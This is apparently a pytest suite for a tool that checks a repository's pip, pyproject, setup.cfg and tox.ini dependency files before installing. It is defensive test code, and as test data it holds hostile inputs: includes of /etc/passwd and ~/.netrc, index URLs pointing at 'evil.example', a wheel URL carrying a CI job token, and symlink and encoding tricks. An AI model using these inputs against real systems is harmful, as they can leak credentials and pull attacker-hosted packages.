"""The repository is input: every dependency file is checked before pip (or anything) reads it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agentic_codemod.adapters.python.dependency_files import (
    checked_dependency_files,
    is_dependency_file,
    read_dependency_files,
)
from agentic_codemod.adapters.python.install_plan import plan_install
from agentic_codemod.adapters.python.requirement_options import decode, lines, scan
from agentic_codemod.config import Settings
from agentic_codemod.errors import InputError

SECRET = "planted-" + "s3cr3t" * 4


def write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    return root


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository folder beside an outside file holding a secret."""
    (tmp_path / "outside.txt").write_text(f"{SECRET}\n")
    root = tmp_path / "repo"
    root.mkdir()
    return write(root, {"tests/test_x.py": "def test_x():\n    pass\n"})


def refusals(root: Path) -> list[str]:
    return [str(r) for r in read_dependency_files(root).refused]


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("-r /etc/passwd", "--requirement /etc/passwd: resolves outside the repository"),
        ("-r ../../outside.txt", "--requirement ../../outside.txt: resolves outside the repository"),
        ("-r../../outside.txt", "--requirement ../../outside.txt: resolves outside the repository"),
        ("--requirement=../../outside.txt", "--requirement ../../outside.txt: resolves outside"),
        ("--requirem ../../x.txt", "--requirement ../../x.txt: resolves outside"),  # optparse prefix
        ("--req ../../x.txt", "unknown or ambiguous option --req"),  # --require-hashes too
        ("-c ../../outside.txt", "--constraint ../../outside.txt: resolves outside the repository"),
        ("--constraint /etc/passwd", "--constraint /etc/passwd: resolves outside the repository"),
        ("-r file:///etc/passwd", "--requirement file:///etc/passwd: resolves outside"),
        ("-r https://evil.example/r.txt", "includes a file from outside the repository"),
        ("-e /opt/project", "--editable /opt/project: resolves outside the repository"),
        ("-e ../sibling", "--editable ../sibling: resolves outside the repository"),
        ("../sibling", "requirement ../sibling: resolves outside the repository"),
        ("pkg @ file:///etc/project", "requirement pkg @ file:///etc/project: resolves outside"),
        ("--index-url https://evil.example/simple", "--index-url: a repository may not choose where"),
        ("-i https://evil.example/simple", "--index-url: a repository may not choose where"),
        ("--extra-index-url http://evil.example/simple", "--extra-index-url: a repository may not"),
        ("--extra-index http://evil.example/simple", "--extra-index-url: a repository may not"),
        ("--find-links http://evil.example/", "--find-links: a repository may not choose"),
        ("-f ./wheels", "--find-links: a repository may not choose"),
        ("--trusted-host evil.example", "--trusted-host: a repository may not choose"),
        ("pytest --pypi-url=http://evil.example", "--pypi-url: a repository may not choose"),
        ("-r ${HOME}/.netrc", "uses an environment variable"),
        ("acme @ https://x.example/${CI_JOB_TOKEN}/a.whl", "uses an environment variable"),
        ("--frobnicate", "unknown or ambiguous option --frobnicate"),
        ("-r", "-r without a value"),
    ],
)
def test_a_line_reaching_outside_or_choosing_an_index_is_refused_naming_file_and_line(
    repo: Path, line: str, reason: str
) -> None:
    write(repo, {"requirements/test.txt": f"# tests\npytest\n{line}\n"})
    [refusal] = refusals(repo)
    assert refusal.startswith("requirements/test.txt line 3: ")
    assert reason in refusal


def test_a_continued_line_is_read_as_pip_joins_it(repo: Path) -> None:
    write(repo, {"requirements.txt": "pytest\n-r \\\n../outside.txt\n"})
    assert refusals(repo) == [
        "requirements.txt line 2: --requirement ../outside.txt: resolves outside the repository"
    ]


@pytest.mark.parametrize(
    "target", [lambda tmp: str(tmp / "outside.txt"), lambda tmp: "../outside.txt", lambda tmp: "/etc/passwd"]
)
def test_a_symlinked_requirements_file_leading_out_is_refused_unread(repo: Path, target) -> None:  # type: ignore[no-untyped-def]
    os.symlink(target(repo.parent), repo / "requirements-test.txt")
    [refusal] = refusals(repo)
    assert refusal.startswith("requirements-test.txt: resolves outside the repository through a symlink")
    with pytest.raises(InputError) as caught:
        plan_install(repo, Settings())  # before pip is given anything
    assert "requirements-test.txt" in str(caught.value) and SECRET not in str(caught.value)


def test_a_symlinked_folder_leading_out_is_refused(repo: Path) -> None:
    outside = repo.parent / "elsewhere"
    write(outside, {"test.txt": f"{SECRET}\n"})
    os.symlink(outside, repo / "requirements")
    assert refusals(repo) == [
        "requirements/test.txt: resolves outside the repository through a symlink "
        "(a folder on its way is a symlink)"
    ]


def test_an_include_is_followed_and_checked_in_turn(repo: Path) -> None:
    write(
        repo,
        {
            "requirements.txt": "acme-sdk==1.4.0\n-r deps/base\n",
            "deps/base": "requests\n-c ../../outside.txt\n",  # no suffix: pip reads it all the same
        },
    )
    assert refusals(repo) == [
        "deps/base line 2: --constraint ../../outside.txt: resolves outside the repository"
    ]


def test_an_include_through_a_symlink_loop_is_refused_as_input(repo: Path) -> None:
    """helper-52: `-r loop.txt`, loop.txt -> loop.txt, committed: Path.resolve raised RuntimeError (Python
    3.11), the run ended `failed`, exit 1, instead of refusing the file (exit 2)."""
    write(repo, {"requirements.txt": "acme-sdk==1.4.0\n-r loop.txt\n"})
    os.symlink("loop.txt", repo / "loop.txt")
    refused = "requirements.txt line 2: --requirement loop.txt: resolves outside the repository"
    assert refused in refusals(repo)
    with pytest.raises(InputError):
        plan_install(repo, Settings())


def test_an_include_as_a_url_no_parser_reads_is_refused_as_input(repo: Path) -> None:
    """`-r file://[::1/x`: urlsplit raised ValueError out of the checks (a crash, exit 1)."""
    write(repo, {"requirements.txt": "acme-sdk==1.4.0\n-r file://[::1/x\n"})
    assert refusals(repo) == [
        "requirements.txt line 2: --requirement file://[::1/x: resolves outside the repository"
    ]
    with pytest.raises(InputError):
        plan_install(repo, Settings())


def test_symlinks_and_paths_inside_the_repository_are_fine(repo: Path) -> None:
    write(
        repo,
        {
            "deps/real.txt": "requests==2.31.0\n",
            "requirements.txt": (
                "-r deps/real.txt\n-c constraints.txt\n-e .\n./vendor/pkg\n"
                "acme @ https://files.example/acme-1.0-py3-none-any.whl\n"
                "-e git+https://git.example/lib.git#egg=lib\n"
                "pkg==1.0 --hash=sha256:" + "0" * 64 + "\n--prefer-binary\n--no-index\n"
            ),
            "constraints.txt": "requests<3\n",
        },
    )
    os.symlink("deps/real.txt", repo / "requirements-dev.txt")
    found = read_dependency_files(repo)
    assert found.refused == []
    assert found.files == ["constraints.txt", "deps/real.txt", "requirements-dev.txt", "requirements.txt"]


@pytest.mark.parametrize(
    ("files", "reason"),
    [
        (
            {"pyproject.toml": '[tool.setuptools.dynamic]\ndependencies = {file = ["../outside.txt"]}\n'},
            "pyproject.toml: file ../outside.txt: resolves outside the repository",
        ),
        (
            {"pyproject.toml": '[tool.setuptools.dynamic]\nversion = {file = "/etc/hostname"}\n'},
            "pyproject.toml: file /etc/hostname: resolves outside the repository",
        ),
        (
            {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["lib @ file:///srv/lib"]\n'},
            "pyproject.toml: requirement lib @ file:///srv/lib: resolves outside the repository",
        ),
        (
            {"pyproject.toml": '[tool.poetry.dependencies]\nlib = {path = "../lib"}\n'},
            "pyproject.toml: path ../lib: resolves outside the repository",
        ),
        (
            {"setup.cfg": "[options]\ninstall_requires = file: ../outside.txt\n"},
            "setup.cfg: file: ../outside.txt: resolves outside the repository",
        ),
        (
            {"setup.cfg": "[metadata]\nlong_description = file: README.md, ../outside.txt\n"},
            "setup.cfg: file: ../outside.txt: resolves outside the repository",
        ),
    ],
)
def test_project_files_reaching_outside_are_refused(repo: Path, files: dict[str, str], reason: str) -> None:
    write(repo, files)
    assert refusals(repo) == [reason]


def test_setuptools_dependency_files_are_dependency_files(repo: Path) -> None:
    write(
        repo,
        {
            "pyproject.toml": (
                '[build-system]\nrequires = ["setuptools"]\n'
                '[project]\nname = "x"\ndynamic = ["dependencies"]\n'
                '[tool.setuptools.dynamic]\ndependencies = {file = ["deps/runtime.txt"]}\n'
                'optional-dependencies.test = {file = ["deps/test.txt"]}\n'
            ),
            "deps/runtime.txt": "acme-sdk==1.4.0\n",
            "deps/test.txt": "--extra-index-url http://evil.example/simple\n",
        },
    )
    found = read_dependency_files(repo)
    assert {"deps/runtime.txt", "deps/test.txt", "pyproject.toml"} <= set(found.files)
    assert [str(r) for r in found.refused] == [
        "deps/test.txt line 1: --extra-index-url: a repository may not choose where packages come from"
    ]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        ("-r ../outside.txt\n".encode("utf-16"), "not UTF-8 (a UTF-16/32 byte order mark)"),
        (b"# -*- coding: utf-7 -*-\n+AC0-r ../outside.txt\n", "declares an encoding other than UTF-8"),
        (b"acme-sdk==1.4.0 \xff\n", "is not UTF-8"),
    ],
)
def test_text_pip_could_read_differently_is_refused(repo: Path, data: bytes, reason: str) -> None:
    (repo / "requirements.txt").write_bytes(data)
    [refusal] = refusals(repo)
    assert refusal.startswith("requirements.txt: cannot be read safely") and reason in refusal


def test_every_refusal_is_one_input_error_naming_each(repo: Path) -> None:
    write(repo, {"requirements.txt": "-r /etc/passwd\n", "requirements-dev.txt": "-i https://x.example\n"})
    with pytest.raises(InputError) as caught:
        checked_dependency_files(repo)
    message = str(caught.value)
    assert "requirements-dev.txt line 1: --index-url" in message
    assert "requirements.txt line 1: --requirement /etc/passwd" in message
    assert "packages.index_url" in caught.value.hint


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("requirements.txt", True),
        ("requirements/test.txt", True),
        ("sub/requirements/test.txt", True),
        ("src/constraints.txt", True),
        ("test-requirements.txt", True),
        ("requirements-dev.in", True),
        ("deps.pip", True),
        ("services/api/pyproject.toml", True),
        ("SETUP.PY", True),
        ("Pipfile", True),
        ("Pipfile.lock", True),
        ("uv.lock", True),
        ("pylock.dev.toml", True),
        ("src/app.py", False),
        ("docs/index.md", False),
        ("requirements_notes.md", False),
    ],
)
def test_is_dependency_file_by_name_at_any_depth(path: str, expected: bool) -> None:
    assert is_dependency_file(path) is expected


def test_lines_are_joined_and_stripped_as_pip_does() -> None:
    text = "a  # comment\n# whole line\n-r \\\nb.txt\nc \\\n# comment ends it\n\n"
    assert lines(text) == [(1, "a"), (3, "-r b.txt"), (5, "c")]
    options, problems = scan("pkg==1 --hash=sha256:ab -C k=v\n-e . \n")
    assert [(o.line, o.name, o.value) for o in options] == [
        (1, "requirement", "pkg==1"),
        (1, "--hash", "sha256:ab"),
        (1, "--config-settings", "k=v"),
        (2, "--editable", "."),
    ]
    assert problems == []
    assert decode(b"\xef\xbb\xbfpytest\n") == "pytest\n"


def test_tox_constraints_outside_deps_are_dependency_files_and_dev_null_is_none(tmp_path: Path) -> None:
    # what tox applies to every install besides deps is read as deps' `-c` lines are: the file it names is
    # a dependency file (found, guarded, bumped by its role), and `PIP_CONSTRAINT = /dev/null` (an env
    # that turns constraints off, ansible-lint's shape) names no file, so nothing is refused
    tox = (
        "[testenv]\nset_env =\n    PIP_CONSTRAINT = {toxinidir}/.config/requirements.txt\n"
        "    devel: PIP_CONSTRAINT = /dev/null\n    UV_CONSTRAINT = {env:UV_CONSTRAINT:}\n"
        "install_command = python -m pip install -c ci/pins.txt {opts} {packages}\n"
        "deps = pytest\ncommands = pytest\n"
    )
    write(tmp_path, {"tox.ini": tox, ".config/requirements.txt": "acme-sdk==1.4\n", "ci/pins.txt": "x\n"})
    found = read_dependency_files(tmp_path)
    assert found.refused == []
    assert found.files == [".config/requirements.txt", "ci/pins.txt", "tox.ini"]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("PIP_CONSTRAINT = ci/a\0b.txt", "tox.ini line 3: --constraint 'ci/a\\x00b.txt': holds a NUL byte"),
        ("PIP_CONSTRAINT = " + "x" * 300, "tox.ini line 3: --constraint 'xxxx"),
    ],
    ids=["nul", "long-name"],
)
def test_a_constraints_value_no_file_system_holds_is_refused_at_its_line(
    tmp_path: Path, value: str, reason: str
) -> None:
    # helper-4's review: a NUL byte or a 6 KB name in a setenv path (or a deps line) ended the run
    # `failed` with "ValueError: embedded null byte" / "OSError: File name too long"
    write(tmp_path, {"tox.ini": f"[testenv]\nsetenv =\n    {value}\ndeps = pytest\ncommands = pytest\n"})
    refused = [str(r) for r in read_dependency_files(tmp_path).refused]
    assert len(refused) == 1 and refused[0].startswith(reason), refused


def test_tox_values_continued_and_substituted_name_the_files_tox_reads(tmp_path: Path) -> None:
    # a setenv value continued with `\` (read as `-c \` and refused before); {tox_root}, {/} and an
    # {env:NAME:DEFAULT} whose default is a local path, as tox reads them where NAME is unset
    tox = (
        "[testenv]\nsetenv =\n    PIP_CONSTRAINT = {tox_root}{/}ci{/}a.txt \\\n        ci/b.txt\n"
        "    UV_CONSTRAINT = {env:UV_CONSTRAINT:ci/c.txt}\n"
        "deps =\n    -r{env:REQS:{toxinidir}/ci/reqs.txt}\n"
        "    -c{env:TOX_CONSTRAINTS_FILE:https://releases.invalid/upper}\ncommands = pytest\n"
    )
    files = {"tox.ini": tox, **{f"ci/{n}.txt": "x\n" for n in ("a", "b", "c", "reqs")}}
    write(tmp_path, files)
    found = read_dependency_files(tmp_path)
    assert found.refused == []
    assert found.files == ["ci/a.txt", "ci/b.txt", "ci/c.txt", "ci/reqs.txt", "tox.ini"]
    plan = plan_install(tmp_path, Settings())
    assert (plan.requirement_files, sorted(plan.constraint_files)) == (
        ["ci/reqs.txt"],
        ["ci/a.txt", "ci/b.txt", "ci/c.txt"],
    )


def test_a_percent_encoded_nul_and_an_oversized_tox_ini_are_refused(tmp_path: Path) -> None:
    # helper-5's review: `-c file:c%00.txt` decoded to a NUL byte and failed the run (exit 1); the walk
    # read a tox.ini of any size (quadratic work on 12 MB of continued lines: minutes)
    write(tmp_path, {"requirements.txt": "-c file:c%00.txt\n", "tox.ini": "[testenv]\n" + "#" * 300_000})
    refused = sorted(str(r) for r in read_dependency_files(tmp_path).refused)
    assert refused == [
        "requirements.txt line 1: --constraint 'file:c%00.txt': holds a NUL byte",
        "tox.ini: larger than 256000 bytes (config.CI_CONFIG_MAX_BYTES)",
    ]


def test_uv_overrides_in_setenv_are_read_as_constraints(tmp_path: Path) -> None:
    tox = "[testenv]\nsetenv = UV_OVERRIDE = ci/o.txt\ndeps = pytest\ncommands = pytest\n"
    write(tmp_path, {"tox.ini": tox, "ci/o.txt": "acme-sdk==1.4.0\n"})
    assert read_dependency_files(tmp_path).files == ["ci/o.txt", "tox.ini"]
    assert plan_install(tmp_path, Settings()).constraint_files == ["ci/o.txt"]
